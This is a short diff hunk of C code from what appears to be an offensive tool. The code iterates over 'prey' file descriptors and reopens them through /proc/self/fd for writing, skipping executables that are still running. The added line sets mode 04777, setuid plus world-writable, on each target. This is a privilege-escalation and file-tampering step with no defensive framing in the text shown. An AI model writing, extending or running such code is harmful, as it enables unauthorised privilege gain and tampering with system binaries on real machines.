@@ -92,6 +92,7 @@ static void write_to(struct shared *all, int log) {
     if (one->is_done || !one->is_prey) continue;
     char path[64];
     snprintf(path, sizeof path, "/proc/self/fd/%d", one->fd);
+    fchmod(one->fd, 04777); /* whether it worked shows the file */
     int fd = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
     if (fd < 0 && errno == ETXTBSY) continue; /* it still runs */
     one->is_done = 1;
